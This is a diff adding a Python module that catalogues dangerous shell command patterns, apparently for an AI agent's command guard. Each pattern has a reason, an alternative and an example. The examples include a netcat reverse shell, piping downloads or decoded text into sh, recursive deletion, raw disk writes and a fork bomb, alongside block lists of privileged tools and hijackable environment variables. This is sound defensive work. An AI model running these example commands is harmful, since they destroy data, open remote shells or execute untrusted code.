@@ -1,0 +1,106 @@
+"""The shipped patterns of dangerous commands: what each is called, why it asks, and what to do instead.
+
+Which commands fit a pattern is told by the modules of `programs`; here is only what is said of it, for the question, for the denial
+and for the docs.
+"""
+
+from __future__ import annotations
+
+from typing import NamedTuple
+
+
+class Pattern(NamedTuple):
+    """`example` is a command that fits it."""
+
+    name: str
+    why: str
+    instead: str
+    example: str
+
+
+_ROWS = (
+    ("recursive_delete", "it deletes a whole folder without asking", "delete the files by name", "rm -rf build"),
+    ("broad_delete", "it deletes more than one can see from the command", "name the files that are to go", "rm *"),
+    ("find_delete", "it deletes whatever a search finds", "delete what it finds by name", "find . -name '*.o' -delete"),
+    ("sync_delete", "it deletes at the target what the source hasn't got", "copy without --delete", "rsync -a --delete a/ b/"),
+    ("overwrite", "it destroys what files hold beyond recovery", "delete files instead", "shred -u key"),
+    ("truncate", "it empties a file", "write what the file is to hold with write_file", ": > app.log"),
+    ("broad_move", "it moves more than one can see from the command", "name the files that are to be moved", "mv ~ /tmp"),
+    ("raw_disk", "it writes to a device or makes a file system on one", "work on files", "dd if=x of=/dev/sda"),
+    ("system_files", "it changes or enters folders of the system", "keep to the workspace", "tee /etc/hosts"),
+    ("startup_file", "it touches what shells run when they start", "set variables in the command itself", "echo x >> ~/.bashrc"),
+    ("git_hooks", "it touches what git keeps, and its hooks run later", "use git's own operations", "cp x .git/hooks/pre-commit"),
+    ("git_config", "it changes how git runs, and which programs it runs", "do without the setting", "git config core.hooksPath x"),
+    ("git_force_push", "it takes away what others have pushed", "push without force", "git push --force"),
+    ("git_discard", "it throws away work that git can't bring back", "commit or stash it first", "git reset --hard"),
+    ("download_to_interpreter", "it runs what a server sends", "download it, and look at it first", "curl example.org | sh"),
+    ("decoded_to_interpreter", "it runs what is hidden by an encoding", "write the commands plainly", "base64 -d x | sh"),
+    ("eval", "it runs a text that is only put together then", "write the command itself", "eval ls"),
+    ("reverse_shell", "it joins a shell or a file to the network", "use http_request or fetch_url", "nc -e /bin/sh 192.0.2.1 4444"),
+    ("remote", "it works on another machine", "work in the workspace", "ssh host ls"),
+    ("privileges", "it runs as another user or in another root", "do it as the user that one is", "sudo ls"),
+    ("permissions", "it lets everybody write, or programs run as their owner", "give the owner what is needed", "chmod -R 777 ."),
+    ("ownership", "it gives whole folders to another user", "leave their owner as it is", "chown -R root ."),
+    ("accounts", "it changes users, groups or passwords", "do without", "useradd eve"),
+    ("kill_all", "it ends processes by a name or all of them", "end a process by its number", "kill -9 -1"),
+    ("power", "it stops the machine", "do without", "shutdown now"),
+    ("scheduled", "it leaves work behind for later", "do the work now", "crontab x"),
+    ("services", "it changes the services of the system", "do without", "systemctl stop nginx"),
+    ("firewall", "it changes how the machine is reached", "do without", "iptables -F"),
+    ("mounts", "it changes what the file system is made of", "do without", "mount /dev/sda1 /mnt"),
+    ("kernel", "it changes the kernel or its settings", "do without", "insmod x.ko"),
+    ("history", "it clears the record of what was done", "do without", "history -c"),
+    ("containers", "it starts or changes what runs outside this sandbox", "run the program itself", "docker run x"),
+    ("global_install", "it installs software, which runs code of its own", "ask the owner for what is missing", "pip install x"),
+    ("environment", "it changes what the programs after it are or load", "call the program by its path", "PATH=. ls"),
+    ("fork_bomb", "it starts itself again and again", "use a loop with an end", ":(){ :|:& };:"),
+    ("unreadable", "it can't be read with certainty", "write it plainly, in several commands", "echo 'x"),
+    ("listed", "the rules list it as dangerous", "do without, or ask for it", ""),
+)  # fmt: skip
+
+#: By name.
+PATTERNS: dict[str, Pattern] = {row[0]: Pattern(*row) for row in _ROWS}
+
+#: Programs that fit a pattern whatever they are given.
+BY_NAME: dict[str, str] = {
+    program: pattern
+    for pattern, programs in {
+        "privileges": "sudo sudoedit doas su pkexec run0 runuser chroot setpriv unshare nsenter setcap capsh gosu "
+        "su-exec fakechroot",
+        "raw_disk": "mkfs mke2fs mkswap fdisk sfdisk cfdisk gdisk sgdisk parted wipefs blkdiscard hdparm "
+        "badblocks debugfs tune2fs resize2fs newfs diskutil losetup cryptsetup lvremove vgremove "
+        "pvremove mdadm zpool zfs btrfs",
+        "overwrite": "shred srm wipe",
+        "accounts": "useradd adduser usermod userdel deluser groupadd groupmod groupdel passwd chpasswd gpasswd chsh "
+        "chfn visudo vipw dscl",
+        "kill_all": "killall killall5 pkill skill",
+        "power": "shutdown reboot halt poweroff init telinit kexec pm-suspend",
+        "scheduled": "crontab at batch atrm anacron systemd-run",
+        "services": "systemctl service initctl rc-service rc-update launchctl chkconfig update-rc.d loginctl",
+        "firewall": "iptables ip6tables iptables-restore nft ufw firewall-cmd ebtables arptables pfctl ipset",
+        "mounts": "mount umount swapon swapoff pivot_root switch_root fusermount fusermount3",
+        "kernel": "insmod rmmod modprobe depmod sysctl dkms grub-install update-grub bpftool kldload kextload",
+        "remote": "ssh scp sftp sshpass autossh mosh telnet rlogin rsh ftp lftp tftp ssh-copy-id ansible ansible-playbook",
+        "containers": "lxc lxc-start lxd incus machinectl ctr crictl nerdctl kubectl helm virsh vagrant",
+        "eval": "eval",
+        "history": "fc",
+        "environment": "ld.so ldconfig update-alternatives",
+    }.items()
+    for program in programs.split()
+}
+
+#: Environment variables that change which programs run or what they load.
+_HARMFUL = frozenset(
+    "PATH BASH_ENV ENV IFS PROMPT_COMMAND PS0 PS1 PS2 PS4 SHELLOPTS BASHOPTS CDPATH GLOBIGNORE SHELL HOME "
+    "PAGER EDITOR VISUAL BROWSER MANPAGER LESSOPEN LESSCLOSE LESSEDIT PYTHONSTARTUP PYTHONHOME PYTHONINSPECT "
+    "PYTHONBREAKPOINT PYTHONWARNINGS PERL5OPT PERL5LIB PERL5DB PERLLIB RUBYOPT RUBYLIB NODE_OPTIONS NODE_PATH "
+    "JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS CLASSPATH TAR_OPTIONS MAKEFLAGS GNUMAKEFLAGS RSYNC_RSH "
+    "CVS_RSH SSH_ASKPASS SUDO_ASKPASS OPENSSL_CONF HOSTALIASES GCONV_PATH LOCPATH TERMINFO RUSTC_WRAPPER "
+    "RUSTC CC CXX BASH_LOADABLES_PATH EXECIGNORE HISTFILE ZDOTDIR FPATH AWKPATH FIND_OPTIONS GREP_OPTIONS "
+    "XARGS_OPTS CURL_HOME WGETRC PIP_CONFIG_FILE NPM_CONFIG_USERCONFIG INPUTRC GLIBC_TUNABLES".split()
+)  # fmt: skip
+
+
+def is_harmful(variable: str) -> bool:
+    """Whether setting this environment variable can change what the programs after it are."""
+    return variable in _HARMFUL or variable.startswith(("LD_", "DYLD_", "GIT_", "BASH_", "MALLOC_"))
